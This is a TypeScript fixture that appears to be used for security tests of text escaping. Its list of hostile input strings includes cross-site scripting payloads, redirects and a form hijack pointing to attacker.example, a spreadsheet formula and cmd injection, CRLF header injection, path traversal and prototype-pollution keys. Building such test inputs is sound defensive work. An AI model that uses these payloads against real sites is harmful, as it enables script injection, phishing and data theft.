/** What sets this, or opens a dialog, has been run. */
export const mark = 'candourBreach';
const run = `window.${mark}=1;alert('${mark}')`;

/** Everything at once: for fields of which there is one. Each part breaks out of another place that text may be put. */
export const everyEscape = `"'><script>${run}</script></title></textarea></style></script><img src=x onerror="${run}"><svg/onload=${run}>{{constructor.constructor('${run}')()}}{x, plural, one {#}}\u202Egnp.exe\u202C`;

/** One attack each: for fields of which there are many. */
export const hostileStrings: readonly string[] = [
  `<script>${run}</script>`,
  `"><img src=x onerror=${run}>`,
  `'><svg/onload=${run}>`,
  `" autofocus onfocus=${run} x="`,
  `' onmouseover='${run}' style='position:fixed;inset:0`,
  `</title><script>${run}</script>`,
  `</textarea></select></script><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<iframe srcdoc="<script>parent.${mark}=1</script>">`,
  `<form action=https://attacker.example><button>Sign in again</button></form>`,
  `<meta http-equiv=refresh content="0;url=https://attacker.example">`,
  `<base href=https://attacker.example/>`,
  `<style>@import 'https://attacker.example/x.css';</style>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}} <%= ${run} %> #{${run}}`,
  '{count, plural, one {#} other {#}} {unclosed',
  "'{x}' {0} <b>{y}</b> '' }",
  `&lt;script&gt;${run}&lt;/script&gt; &#60;script&#62;`,
  `\u003cscript\u003e${run}\u003c/script\u003e %3Cscript%3E`,
  'invoice\u202Egnp.exe\u202C and \u2066isolated\u2069 \u200B\u200D\uFEFF',
  'e\u0301\u0302\u0303\u0304\u0305\u0306 \u{1F468}\u200D\u{1F469}\u200D\u{1F467} ﷽',
  'Wordthatneverends'.repeat(14),
  '=HYPERLINK("https://attacker.example","Open")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  'First line\r\nSet-Cookie: candour=stolen\r\n\r\n<script>',
  '../../../etc/passwd%00.html?x=<y>&z="#',
  '__proto__',
  'constructor',
];

/** What no text may hold, and a record therefore refuses or leaves out, rather than fail. */
export const unwritable: readonly string[] = [
  'nothing\u0000after',
  'half a pair \uD83D of surrogates',
  '\u0001\u0008\u001B[31m',
];
